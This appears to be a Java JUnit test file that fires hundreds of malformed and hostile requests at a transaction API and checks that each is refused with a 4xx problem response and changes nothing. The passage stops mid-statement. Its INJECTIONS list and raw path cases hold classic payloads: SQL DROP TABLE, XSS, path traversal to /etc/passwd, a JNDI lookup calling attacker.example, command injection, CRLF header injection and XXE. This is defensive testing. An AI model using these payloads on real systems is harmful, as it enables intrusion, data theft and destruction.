package io.securetx.adapter.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.securetx.adapter.http.ApiFixture.Reply;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hundreds of generated bad requests against one real server: malformed JSON, wrong types, missing
 * and extra fields, huge bodies and numbers, bad amounts, currencies and user ids, Unicode edge
 * cases, injection strings in every field, header, field name and the tx id path, bad idempotency
 * keys, content types and credentials, and raw bytes HttpClient will not send. Every one must get
 * its 4xx problem document, and the vault must be unchanged and still verify.
 *
 * <p>Valid but unusual input (emoji, RTL text, SQL or HTML in a user id) is not bad input: {@link
 * ExoticInputTest} shows it is stored and read back exactly.
 */
class BadInputTest {

  @TempDir static Path dir;
  private static ApiFixture api;
  private static InProcessTasks tasks;
  private static final AtomicLong KEYS = new AtomicLong();

  /** Strings that have attacked some system somewhere. */
  static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE ledger_entry; --",
          "1; DELETE FROM idempotency_key",
          "\" OR \"\"=\"",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "${jndi:ldap://attacker.example/a}",
          "{{7*7}}",
          "$(reboot)",
          "`id`",
          "%0d%0aSet-Cookie: a=b",
          "\r\nX-Injected: 1",
          "\nX-Injected: 1",
          "\u0000",
          "a\u0000b",
          "%00",
          "AAAA%n%n%n%s%s",
          "\\u0000",
          "__proto__",
          "{\"$ne\": null}",
          "*)(uid=*))(|(uid=*",
          "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>");

  /** Unicode that must never pass for an amount, a currency, a key or an id. */
  static final List<String> UNICODE =
      List.of(
          "\ud800",
          "\udc00",
          "a\ud800b",
          "\u202e",
          "\u202edsu",
          "\u200b",
          "1\u200b",
          "\u200e",
          "\ufeff",
          "\u0301",
          "e\u0301",
          "😀",
          "👨‍👩‍👧",
          "ＵＳＤ",
          "１００",
          "١٠٠",
          "𝟏𝟎𝟎",
          "\u2028",
          "\u0085",
          "שלום",
          "\uE000",
          "\u0378");

  @BeforeAll
  static void start() {
    tasks = InProcessTasks.create();
    api = ApiFixture.start(dir, ApiFixture.environment(), tasks.install());
    // One real entry, so that "nothing stored" is checked against a vault that is not empty.
    Reply seed = api.post("{\"user_id\": \"123\", \"amount\": \"100.00\"}", "baseline");
    assertThat(seed.status()).as("%s", seed).isEqualTo(201);
    assertThat(api.entries()).isEqualTo(1);
  }

  @AfterAll
  static void stop() {
    api.close();
  }

  /**
   * One bad request.
   *
   * @param name what is bad
   * @param statuses the statuses it may get (all 4xx)
   * @param request builds it against the server
   */
  record Case(String name, Set<Integer> statuses, Function<URI, Object> request) {
    @Override
    public String toString() {
      return name.length() <= 160 ? name : name.substring(0, 160) + "…";
    }
  }

  static Stream<Case> cases() {
    List<Case> cases = new ArrayList<>();
    malformedJson(cases);
    wrongTypes(cases);
    fields(cases);
    amounts(cases);
    currencies(cases);
    userIds(cases);
    injectionsEverywhere(cases);
    idempotencyKeys(cases);
    contentTypes(cases);
    sizes(cases);
    credentials(cases);
    paths(cases);
    methods(cases);
    raw(cases);
    tasks(cases);
    return cases.stream();
  }

  @Test
  void cases_areHundreds() {
    assertThat(cases().count()).isGreaterThan(400);
    assertThat(cases().flatMap(c -> c.statuses().stream())).allMatch(s -> s >= 400 && s < 500);
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("cases")
  void badRequest_gets4xxProblem_andStoresNothing(Case badCase) throws Exception {
    long before = api.entries();
    int sentBefore = tasks.sent();
    Object request = badCase.request().apply(api.base);
    int status;
    String contentType;
    byte[] body;
    String description;
    if (request instanceof HttpRequest http) {
      Reply reply = api.send(http);
      status = reply.status();
      contentType = reply.header("Content-Type");
      body = reply.response().body();
      description = badCase.name() + ": " + reply;
    } else {
      RawHttp.Response reply = RawHttp.send(api.server.port(), (byte[]) request);
      status = reply.status();
      contentType = reply.headers().get("content-type");
      body = reply.body();
      description =
          badCase.name() + ": raw -> " + status + " " + reply.headers() + " " + reply.bodyText();
    }

    assertThat(status).as("status of %s", description).isIn(badCase.statuses());
    assertThat(contentType)
        .as("content type of %s", description)
        .startsWith("application/problem+json");
    JsonNode problem = ApiFixture.JSON.readTree(body);
    assertThat(problem.path("status").asInt()).as("%s", description).isEqualTo(status);
    for (String member : List.of("type", "title", "detail", "instance")) {
      assertThat(problem.path(member).isTextual()).as("%s in %s", member, description).isTrue();
    }
    String text = new String(body, StandardCharsets.UTF_8);
    assertThat(text).as("%s", description).doesNotContain(ApiFixture.KEY, ApiFixture.SEED_KEY);
    assertThat(text).as("%s", description).doesNotContain("Exception", "\tat ", "javalin");
    assertThat(api.entries()).as("entries after %s", description).isEqualTo(before);
    assertThat(tasks.sent()).as("tasks sent after %s", description).isEqualTo(sentBefore);
  }

  @Test
  void keysOfRefusedRequests_areNotConsumed() {
    // A key that came with an invalid body is still free for the corrected request.
    assertThat(api.post("{\"user_id\": \"123\", \"amount\": \"-1\"}", "reused-later").status())
        .isEqualTo(422);
    Reply ok = api.post("{\"user_id\": \"123\", \"amount\": \"1.00\"}", "reused-later");
    assertThat(ok.status()).isEqualTo(201);
  }

  @Test
  void refusedByJetty_saysItCloses_soTheNextPostOnThePooledClientIsNotLost() {
    RawHttp.Response raw =
        RawHttp.send(
            api.server.port(),
            "GET /v1/tasks/%00 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
                .getBytes(StandardCharsets.ISO_8859_1));
    assertThat(raw.status()).isEqualTo(400);
    assertThat(raw.headers()).containsEntry("connection", "close");
    for (int i = 0; i < 20; i++) {
      assertThat(api.get("/v1/tasks/%00").status()).isEqualTo(400);
      assertThat(api.post("{\"user_id\": \"123\", \"amount\": \"-1\"}", freshKey()).status())
          .isEqualTo(422);
    }
  }

  // --- builders ----------------------------------------------------------------------------

  private static String freshKey() {
    return "bad-input-" + KEYS.incrementAndGet();
  }

  private static HttpRequest.Builder postBuilder(URI base, byte[] body) {
    return HttpRequest.newBuilder(base.resolve("/v1/transactions"))
        .header("Authorization", "Bearer " + ApiFixture.KEY)
        .header("Content-Type", "application/json")
        .header("Idempotency-Key", freshKey())
        .POST(HttpRequest.BodyPublishers.ofByteArray(body));
  }

  private static void post(List<Case> cases, String name, int status, String json) {
    postBytes(cases, name, status, json.getBytes(StandardCharsets.UTF_8));
  }

  private static void postBytes(List<Case> cases, String name, int status, byte[] body) {
    cases.add(new Case(name, Set.of(status), base -> postBuilder(base, body).build()));
  }

  /** Writes non-ASCII as JSON escapes, so a lone surrogate reaches the server as one. */
  private static final com.fasterxml.jackson.databind.ObjectMapper ESCAPING =
      new com.fasterxml.jackson.databind.ObjectMapper()
          .enable(
              com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII.mappedFeature());

  private static String body(Map<String, Object> fields) {
    ObjectNode node = JsonNodeFactory.instance.objectNode();
    fields.forEach((k, v) -> node.set(k, ApiFixture.JSON.valueToTree(v)));
    try {
      return ESCAPING.writeValueAsString(node);
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  /** The same body with non-ASCII as raw UTF-8 (only for text that has a UTF-8 form). */
  private static String rawUtf8(String field, String value) {
    Map<String, Object> fields = valid();
    fields.put(field, value);
    return ApiFixture.JSON.valueToTree(fields).toString();
  }

  private static boolean encodable(String text) {
    return StandardCharsets.UTF_8.newEncoder().canEncode(text);
  }

  private static Map<String, Object> valid() {
    Map<String, Object> fields = new LinkedHashMap<>();
    fields.put("user_id", "123");
    fields.put("amount", "100.00");
    fields.put("currency", "USD");
    return fields;
  }

  private static String with(String field, Object value) {
    Map<String, Object> fields = valid();
    fields.put(field, value);
    return body(fields);
  }

  private static String withRaw(String field, String rawJsonValue) {
    Map<String, Object> fields = valid();
    fields.remove(field);
    String rest = body(fields);
    return "{\"" + field + "\": " + rawJsonValue + ", " + rest.substring(1);
  }

  // --- generators --------------------------------------------------------------------------

  /** Bodies that are not one well-formed JSON object. */
  static final List<String> MALFORMED =
      List.of(
          "",
          " ",
          "\n",
          "{",
          "}",
          "[",
          "{\"user_id\":",
          "{\"user_id\": \"123\"",
          "{'user_id': '123', 'amount': '1.00'}",
          "{user_id: \"123\", amount: \"1.00\"}",
          "{\"user_id\": \"123\", \"amount\": \"1.00\",}",
          "{\"user_id\": \"123\" \"amount\": \"1.00\"}",
          "{\"user_id\": \"123\", \"amount\": \"1.00\"} trailing",
          "{\"user_id\": \"123\", \"amount\": \"1.00\"}{\"user_id\": \"1\"}",
          "{\"user_id\": \"123\", \"amount\": \"1.00\"}]",
          "null",
          "true",
          "123",
          "\"a string\"",
          "[]",
          "[{\"user_id\": \"123\", \"amount\": \"1.00\"}]",
          "/* comment */ {\"user_id\": \"123\", \"amount\": \"1.00\"}",
          "{\"user_id\": \"123\", \"amount\": NaN}",
          "{\"user_id\": \"123\", \"amount\": Infinity}",
          "{\"user_id\": \"123\", \"amount\": -Infinity}",
          "{\"user_id\": \"123\", \"amount\": 01}",
          "{\"user_id\": \"123\", \"amount\": .5}",
          "{\"user_id\": \"123\", \"amount\": 1.}",
          "{\"user_id\": \"123\", \"amount\": +1}",
          "{\"user_id\": \"123\", \"amount\": 0x10}",
          "{\"user_id\": \"1\", \"user_id\": \"2\", \"amount\": \"1.00\"}",
          "{\"user_id\": \"123\", \"amount\": \"1.00\", \"amount\": \"2.00\"}",
          "{\"user_id\": \"12\u00013\", \"amount\": \"1.00\"}",
          "{\"user_id\": \"123\", \"amount\": \"1.00\n\"}",
          "{\"user_id\": \"\\x41\", \"amount\": \"1.00\"}",
          "{\"user_id\": \"\\u12\", \"amount\": \"1.00\"}",
          "{\"user_id\": \"unterminated, \"amount\": \"1.00\"}",
          "{\"user_id\": \"123\", \"amount\": \"1.00\"",
          "{\"user_id\": undefined, \"amount\": \"1.00\"}",
          "{\"user_id\": \"123\", \"amount\": 1" + "0".repeat(100) + "}",
          "{\"a\":".repeat(40) + "1" + "}".repeat(40),
          "[".repeat(5000) + "]".repeat(5000),
          "\ufeff{\"user_id\": \"123\", \"amount\": \"1.00\"}");

  private static void malformedJson(List<Case> cases) {
    List<String> bodies = MALFORMED;
    for (int i = 0; i < bodies.size(); i++) {
      post(cases, "malformed JSON #" + i + ": " + bodies.get(i), 400, bodies.get(i));
    }
    byte[] json = "{\"user_id\": \"123\", \"amount\": \"1.00\"}".getBytes(StandardCharsets.UTF_8);
    postBytes(
        cases,
        "malformed: UTF-16 body",
        400,
        "{\"user_id\": \"123\", \"amount\": \"1.00\"}".getBytes(StandardCharsets.UTF_16));
    postBytes(
        cases,
        "malformed: UTF-32 body",
        400,
        "{\"user_id\": \"123\", \"amount\": \"1.00\"}"
            .getBytes(java.nio.charset.Charset.forName("UTF-32")));
    List<byte[]> badUtf8 =
        List.of(
            new byte[] {(byte) 0xC3, 0x28},
            new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
            new byte[] {(byte) 0xFF},
            new byte[] {(byte) 0x80});
    for (int i = 0; i < badUtf8.size(); i++) {
      byte[] bad = badUtf8.get(i);
      byte[] prefix = "{\"user_id\": \"1".getBytes(StandardCharsets.UTF_8);
      byte[] suffix = "\", \"amount\": \"1.00\"}".getBytes(StandardCharsets.UTF_8);
      byte[] body = new byte[prefix.length + bad.length + suffix.length];
      System.arraycopy(prefix, 0, body, 0, prefix.length);
      System.arraycopy(bad, 0, body, prefix.length, bad.length);
      System.arraycopy(suffix, 0, body, prefix.length + bad.length, suffix.length);
      postBytes(cases, "malformed: invalid UTF-8 sequence #" + i + " in a string", 400, body);
    }
    postBytes(cases, "malformed: truncated body", 400, java.util.Arrays.copyOf(json, 20));
  }

  private static void wrongTypes(List<Case> cases) {
    List<String> values =
        List.of(
            "123",
            "-1",
            "0",
            "1.5",
            "1e309",
            "-1e309",
            "123456789012345678901234567890",
            "9223372036854775808",
            "true",
            "false",
            "null",
            "[]",
            "[\"123\"]",
            "{}",
            "{\"value\": \"123\"}");
    for (String field : List.of("user_id", "amount", "currency")) {
      for (String value : values) {
        post(cases, "wrong type: " + field + " = " + value, 422, withRaw(field, value));
      }
    }
  }

  private static void fields(List<Case> cases) {
    post(cases, "missing: every field", 422, "{}");
    post(cases, "missing: amount", 422, "{\"user_id\": \"123\"}");
    post(cases, "missing: user_id", 422, "{\"amount\": \"1.00\"}");
    post(
        cases,
        "missing: user_id, with currency",
        422,
        "{\"amount\": \"1.00\", \"currency\": \"USD\"}");
    List<String> extras =
        List.of(
            "idempotency_key",
            "tx_id",
            "status",
            "signature",
            "ledger_seq",
            "created_at",
            "memo",
            "User_Id",
            "userId",
            "user_id ",
            "",
            " ",
            "__proto__",
            "constructor",
            "x".repeat(300),
            "\u0000",
            "😀");
    for (String extra : extras) {
      // Names longer than 256 characters break the parser's limits: malformed, not invalid.
      post(
          cases,
          "extra field: '" + extra + "'",
          extra.length() > 256 ? 400 : 422,
          with(extra, "x"));
    }
    for (String injection : INJECTIONS) {
      post(cases, "extra field named by an injection: " + injection, 422, with(injection, "1"));
    }
  }

  private static void amounts(List<Case> cases) {
    List<String> amounts =
        List.of(
            "",
            " ",
            "-1",
            "-0.01",
            "-0",
            "0",
            "0.00",
            "00",
            "0.001",
            "NaN",
            "nan",
            "-NaN",
            "Infinity",
            "-Infinity",
            "inf",
            "INF",
            "1e309",
            "1E2",
            "1e-2",
            "1e0",
            "0x10",
            "1,000.00",
            "1 000",
            "+1",
            "1.",
            ".5",
            "1..0",
            "1.0.0",
            "1.001",
            "0.999",
            "9223372036854775807",
            "9223372036854775808",
            "92233720368547758.08",
            "99999999999999999999999",
            "1000000.01",
            "1000001",
            "0." + "0".repeat(38) + "1",
            "1" + "0".repeat(60),
            "1_000",
            "1.00 USD",
            "$1",
            "1.00\u0000",
            "1.0\u00a0",
            "٫5",
            "1/2",
            "one");
    for (String amount : amounts) {
      post(cases, "amount: '" + amount + "'", 422, with("amount", amount));
    }
    post(
        cases,
        "amount: JPY with decimals",
        422,
        body(Map.of("user_id", "1", "amount", "100.5", "currency", "JPY")));
    post(
        cases,
        "amount: BHD with four decimals",
        422,
        body(Map.of("user_id", "1", "amount", "1.0001", "currency", "BHD")));
  }

  private static void currencies(List<Case> cases) {
    List<String> codes =
        List.of(
            "",
            " ",
            "usd",
            "Usd",
            "US",
            "USDD",
            "U5D",
            "XXX",
            "XAU",
            "XTS",
            "ABC",
            "ZZZ",
            " USD",
            "USD ",
            "ÜSD",
            "USD\u0000",
            "U\u200bSD");
    for (String code : codes) {
      post(cases, "currency: '" + code + "'", 422, with("currency", code));
    }
  }

  private static void userIds(List<Case> cases) {
    List<String> ids =
        List.of(
            "",
            " ",
            "\t",
            " 123",
            "123 ",
            "\u0000",
            "1\u00002",
            "\u0007",
            "a\nb",
            "a\r\nb",
            "a\tb",
            "\u200b",
            "a\u200bb",
            "\u200e123",
            "\u202e321",
            "a\u2066b",
            "\ufeff123",
            "\ud800",
            "a\udc00",
            "\u2028",
            "\u0085",
            "\uE000",
            "\u0378",
            "\u007f",
            "x".repeat(129),
            "😀".repeat(129),
            "x".repeat(15_000));
    for (String id : ids) {
      post(cases, "user_id: '" + id + "'", 422, with("user_id", id));
      if (encodable(id) && !id.chars().allMatch(c -> c < 0x80)) {
        post(cases, "user_id as raw UTF-8: '" + id + "'", 422, rawUtf8("user_id", id));
      }
    }
  }

  private static void injectionsEverywhere(List<Case> cases) {
    for (String injection : INJECTIONS) {
      post(cases, "injection in amount: " + injection, 422, with("amount", injection));
      post(cases, "injection in currency: " + injection, 422, with("currency", injection));
      post(
          cases,
          "injection in amount after a valid one: " + injection,
          422,
          with("amount", "1.00" + injection));
      if (injection.chars().anyMatch(c -> c < 0x20)) {
        // Printable injection strings are valid user ids: ExoticInputTest stores them.
        post(
            cases,
            "injection with controls in user_id: " + injection,
            422,
            with("user_id", injection));
      }
    }
    for (String text : UNICODE) {
      if (encodable(text)) {
        post(cases, "unicode in amount as raw UTF-8: " + text, 422, rawUtf8("amount", text));
        post(cases, "unicode in currency as raw UTF-8: " + text, 422, rawUtf8("currency", text));
      }
      post(cases, "unicode in amount: " + text, 422, with("amount", text));
      post(
          cases,
          "unicode in amount digits: 1" + text + "00",
          422,
          with("amount", "1" + text + "00"));
      post(cases, "unicode in currency: " + text, 422, with("currency", text));
    }
  }

  private static void header(
      List<Case> cases, String name, int status, String headerName, String value, String path) {
    boolean clientSafe =
        value
            .chars()
            .allMatch(c -> c == '\t' || (c >= 0x20 && c < 0x7f) || (c >= 0xa0 && c <= 0xff));
    String json = "{\"user_id\": \"123\", \"amount\": \"1.00\"}";
    if (clientSafe && !value.isEmpty() && value.equals(value.strip())) {
      cases.add(
          new Case(
              name,
              Set.of(status),
              base -> {
                HttpRequest.Builder b =
                    HttpRequest.newBuilder(base.resolve(path))
                        .POST(HttpRequest.BodyPublishers.ofString(json));
                if (!headerName.equals("Content-Type")) {
                  b.header("Content-Type", "application/json");
                }
                if (!headerName.equals("Authorization")) {
                  b.header("Authorization", "Bearer " + ApiFixture.KEY);
                }
                if (!headerName.equals("Idempotency-Key")) {
                  b.header("Idempotency-Key", freshKey());
                }
                return b.header(headerName, value).build();
              }));
    } else {
      cases.add(
          new Case(
              name + " (raw)",
              status == 400 ? Set.of(400) : Set.of(status, 400),
              base -> {
                StringBuilder head = new StringBuilder();
                head.append("POST ").append(path).append(" HTTP/1.1\r\n");
                head.append("Host: 127.0.0.1\r\nConnection: close\r\n");
                if (!headerName.equals("Content-Type")) {
                  head.append("Content-Type: application/json\r\n");
                }
                if (!headerName.equals("Authorization")) {
                  head.append("Authorization: Bearer ").append(ApiFixture.KEY).append("\r\n");
                }
                if (!headerName.equals("Idempotency-Key")) {
                  head.append("Idempotency-Key: ").append(freshKey()).append("\r\n");
                }
                head.append(headerName).append(": ").append(value).append("\r\n");
                byte[] bodyBytes = json.getBytes(StandardCharsets.UTF_8);
                head.append("Content-Length: ").append(bodyBytes.length).append("\r\n\r\n");
                return concat(head.toString().getBytes(StandardCharsets.UTF_8), bodyBytes);
              }));
    }
  }

  private static void idempotencyKeys(List<Case> cases) {
    List<String> keys =
        List.of(
            "",
            " ",
            "\"\"",
            "\"",
            "\"unterminated",
            "a b",
            "key/1",
            "key;1",
            "key,1",
            "key=1",
            "key\\1",
            "k".repeat(129),
            "k".repeat(5000),
            "ключ",
            "clé",
            "\"ключ\"",
            "a\u0000b",
            "a\rb",
            "a\nb",
            "a\u007fb");
    for (String key : keys) {
      header(
          cases, "Idempotency-Key: '" + key + "'", 400, "Idempotency-Key", key, "/v1/transactions");
    }
    for (String injection : INJECTIONS) {
      if (injection.matches("[A-Za-z0-9._:-]{1,128}")) {
        continue; // __proto__ is a fine key
      }
      header(
          cases,
          "Idempotency-Key injection: " + injection,
          400,
          "Idempotency-Key",
          injection,
          "/v1/transactions");
    }
    for (String text : UNICODE) {
      header(
          cases,
          "Idempotency-Key unicode: " + text,
          400,
          "Idempotency-Key",
          "k" + text,
          "/v1/transactions");
    }
    cases.add(
        new Case(
            "Idempotency-Key sent twice",
            Set.of(400),
            base ->
                postBuilder(
                        base,
                        "{\"user_id\": \"1\", \"amount\": \"1.00\"}"
                            .getBytes(StandardCharsets.UTF_8))
                    .header("Idempotency-Key", "second-value")
                    .build()));
    cases.add(
        new Case(
            "Idempotency-Key missing",
            Set.of(400),
            base ->
                HttpRequest.newBuilder(base.resolve("/v1/transactions"))
                    .header("Authorization", "Bearer " + ApiFixture.KEY)
                    .header("Content-Type", "application/json")
                    .POST(
                        HttpRequest.BodyPublishers.ofString(
                            "{\"user_id\": \"1\", \"amount\": \"1.00\"}"))
                    .build()));
  }

  private static void contentTypes(List<Case> cases) {
    List<String> types =
        List.of(
            "text/plain",
            "text/json",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/json; charset=utf-16",
            "application/json; charset=iso-8859-1",
            "application/json; charset=utf-8; extra=1",
            "application/jsonp",
            "application/json-patch+json",
            "application/problem+json",
            "application/json, text/plain",
            "*/*",
            "json",
            "application/javascript",
            "application/octet-stream");
    for (String type : types) {
      cases.add(
          new Case(
              "Content-Type: " + type,
              Set.of(415),
              base ->
                  HttpRequest.newBuilder(base.resolve("/v1/transactions"))
                      .header("Authorization", "Bearer " + ApiFixture.KEY)
                      .header("Idempotency-Key", freshKey())
                      .header("Content-Type", type)
                      .POST(
                          HttpRequest.BodyPublishers.ofString(
                              "{\"user_id\": \"1\", \"amount\": \"1.00\"}"))
                      .build()));
    }
    cases.add(
        new Case(
            "Content-Type sent twice",
            Set.of(400),
            base ->
                postBuilder(
                        base,
                        "{\"user_id\": \"1\", \"amount\": \"1.00\"}"
                            .getBytes(StandardCharsets.UTF_8))
                    .header("Content-Type", "application/json")
                    .build()));
    cases.add(
        new Case(
            "Authorization sent twice, the first valid",
            Set.of(401),
            base ->
                postBuilder(
                        base,
                        "{\"user_id\": \"1\", \"amount\": \"1.00\"}"
                            .getBytes(StandardCharsets.UTF_8))
                    .header("Authorization", "Bearer " + ApiFixture.KEY)
                    .build()));
    cases.add(
        new Case(
            "Content-Type missing",
            Set.of(415),
            base ->
                HttpRequest.newBuilder(base.resolve("/v1/transactions"))
                    .header("Authorization", "Bearer " + ApiFixture.KEY)
                    .header("Idempotency-Key", freshKey())
                    .POST(
                        HttpRequest.BodyPublishers.ofString(
                            "{\"user_id\": \"1\", \"amount\": \"1.00\"}"))
                    .build()));
    for (String injection : INJECTIONS) {
      header(
          cases,
          "Content-Type injection: " + injection,
          415,
          "Content-Type",
          injection,
          "/v1/transactions");
    }
  }

  private static void sizes(List<Case> cases) {
    for (int size : List.of(RequestBodies.MAX_BYTES + 1, 64 * 1024, 1024 * 1024)) {
      String padding = "x".repeat(size);
      byte[] body =
          ("{\"user_id\": \"" + padding + "\", \"amount\": \"1.00\"}")
              .getBytes(StandardCharsets.UTF_8);
      postBytes(cases, "body of " + body.length + " bytes", 413, body);
      cases.add(
          new Case(
              "chunked body of " + body.length + " bytes",
              Set.of(413),
              base ->
                  postBuilder(base, new byte[0])
                      .POST(
                          HttpRequest.BodyPublishers.ofInputStream(
                              () -> new ByteArrayInputStream(body)))
                      .build()));
    }
    post(
        cases,
        "user_id of 16,000 characters within the body limit",
        422,
        with("user_id", "y".repeat(16_000)));
    post(
        cases,
        "array of 2,000 numbers as amount",
        422,
        withRaw("amount", "[" + "1,".repeat(2000) + "1]"));
  }

  private static void credentials(List<Case> cases) {
    String key = ApiFixture.KEY;
    List<String> headers =
        List.of(
            "Bearer",
            "Bearer x",
            "Basic dXNlcjpwYXNzd29yZA==",
            "Token " + key,
            "Bearer " + key + " extra",
            "Bearer " + key.substring(0, key.length() - 1),
            "Bearer " + key + "x",
            "Bearer " + key.toLowerCase(java.util.Locale.ROOT),
            "Bearer " + key.toUpperCase(java.util.Locale.ROOT),
            "Bearer sk_live_YOUR_ACTUAL_API_KEY",
            "Bearer stx_" + "0".repeat(32),
            "Bearer " + "k".repeat(600),
            key,
            "Bearer\t" + key + "\u00e9",
            "Bearer: " + key,
            "Bearer \"" + key + "\"",
            "Bearer " + key + "\u0000",
            "Bearer " + key + "\u00a0",
            "Bearer ключ");
    for (String value : headers) {
      header(
          cases,
          "Authorization: " + value.replace(key, "<key>"),
          401,
          "Authorization",
          value,
          "/v1/transactions");
    }
    for (String injection : INJECTIONS) {
      header(
          cases,
          "Authorization injection: " + injection,
          401,
          "Authorization",
          "Bearer " + injection,
          "/v1/transactions");
    }
    cases.add(
        new Case(
            "Authorization missing",
            Set.of(401),
            base ->
                HttpRequest.newBuilder(base.resolve("/v1/transactions"))
                    .header("Content-Type", "application/json")
                    .header("Idempotency-Key", freshKey())
                    .POST(
                        HttpRequest.BodyPublishers.ofString(
                            "{\"user_id\": \"1\", \"amount\": \"1.00\"}"))
                    .build()));
    for (String path :
        List.of("/v1/vault/verify", "/v1/transactions/tx_0192f3a4-5b6c-7d8e-9f01-23456789abcd")) {
      cases.add(
          new Case(
              "GET " + path + " without a key",
              Set.of(401),
              base -> HttpRequest.newBuilder(base.resolve(path)).GET().build()));
    }
  }

  /** Percent-encodes every byte outside the unreserved set. */
  static String encode(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      int c = b & 0xff;
      if ((c >= 'a' && c <= 'z')
          || (c >= 'A' && c <= 'Z')
          || (c >= '0' && c <= '9')
          || c == '-'
          || c == '_'
          || c == '.'
          || c == '~') {
        out.append((char) c);
      } else {
        out.append('%').append(String.format("%02X", c));
      }
    }
    return out.toString();
  }

  private static void getPath(
      List<Case> cases, String name, Set<Integer> statuses, String rawPath) {
    cases.add(
        new Case(
            name,
            statuses,
            base -> {
              URI uri;
              try {
                uri = URI.create(base + rawPath);
              } catch (IllegalArgumentException e) {
                // Not a URI java.net accepts (a stray %): send the bytes as they are.
                return ("GET "
                        + rawPath
                        + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer "
                        + ApiFixture.KEY
                        + "\r\n\r\n")
                    .getBytes(StandardCharsets.ISO_8859_1);
              }
              return HttpRequest.newBuilder(uri)
                  .header("Authorization", "Bearer " + ApiFixture.KEY)
                  .GET()
                  .build();
            }));
  }

  private static void paths(List<Case> cases) {
    List<String> ids =
        List.of(
            "tx_",
            "tx_123",
            "123",
            "tx_0192f3a4-5b6c-4d8e-9f01-23456789abcd",
            "tx_0192f3a4-5b6c-7d8e-cf01-23456789abcd",
            "tx_0192f3a45b6c7d8e9f0123456789abcd",
            "tx_0192f3a4-5b6c-7d8e-9f01-23456789abcg",
            "tx_0192f3a4-5b6c-7d8e-9f01-23456789abcd0",
            "TX-0192f3a4-5b6c-7d8e-9f01-23456789abcd",
            "tx_" + "0".repeat(2000),
            " tx_0192f3a4-5b6c-7d8e-9f01-23456789abcd x");
    for (String id : ids) {
      getPath(cases, "tx id: " + id, Set.of(400), "/v1/transactions/" + encode(id));
    }
    for (String injection : INJECTIONS) {
      getPath(
          cases,
          "tx id injection: " + injection,
          Set.of(400, 404),
          "/v1/transactions/" + encode(injection));
    }
    for (String text : UNICODE) {
      getPath(cases, "tx id unicode: " + text, Set.of(400), "/v1/transactions/tx_" + encode(text));
    }
    List<String> rawPaths =
        List.of(
            "/v1/transactions/../../etc/passwd",
            "/v1/transactions/..%2f..%2fetc%2fpasswd",
            "/v1/transactions/%2e%2e/%2e%2e/etc/passwd",
            "/v1/transactions/tx_1%2f2",
            "/v1/transactions/tx_1;jsessionid=1",
            "/v1//transactions",
            "/v1/transactions/tx_1/extra",
            "/v1/transactions/%00",
            "/v1/transactions/%ff%fe",
            "/v1/transactions/%",
            "/v1/transactions/%zz",
            "/V1/TRANSACTIONS",
            "/v1/transactions/" + "a".repeat(10_000),
            "/v1/nothing",
            "/v1",
            "/",
            "/openapi.yaml",
            "/v1/transactions/tx_1?x=" + "%0d%0a".repeat(3));
    for (String path : rawPaths) {
      getPath(cases, "path: " + path, Set.of(400, 404, 414, 431), path);
    }
  }

  private static void methods(List<Case> cases) {
    for (String method : List.of("PUT", "PATCH", "DELETE", "OPTIONS", "FOO")) {
      for (String path : List.of("/v1/transactions", "/v1/vault/verify", "/healthz")) {
        cases.add(
            new Case(
                method + " " + path,
                Set.of(405, 404, 400),
                base ->
                    HttpRequest.newBuilder(base.resolve(path))
                        .header("Authorization", "Bearer " + ApiFixture.KEY)
                        .header("Content-Type", "application/json")
                        .method(method, HttpRequest.BodyPublishers.ofString("{}"))
                        .build()));
      }
    }
    cases.add(
        new Case(
            "GET /v1/transactions (collection is POST only)",
            Set.of(405),
            base ->
                HttpRequest.newBuilder(base.resolve("/v1/transactions"))
                    .header("Authorization", "Bearer " + ApiFixture.KEY)
                    .GET()
                    .build()));
    cases.add(
        new Case(
            "POST with X-HTTP-Method-Override: DELETE",
            Set.of(400),
            base ->
                postBuilder(
                        base,
                        "{\"user_id\": \"1\", \"amount\": \"1.00\"}"
                            .getBytes(StandardCharsets.UTF_8))
                    .header("X-HTTP-Method-Override", "DELETE")
                    .build()));
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = java.util.Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  private static void rawRequest(
      List<Case> cases, String name, Set<Integer> statuses, String request) {
    cases.add(
        new Case("raw: " + name, statuses, base -> request.getBytes(StandardCharsets.ISO_8859_1)));
  }

  private static void raw(List<Case> cases) {
    String auth = "Authorization: Bearer " + ApiFixture.KEY + "\r\n";
    String json = "{\"user_id\": \"1\", \"amount\": \"1.00\"}";
    String head =
        "POST /v1/transactions HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
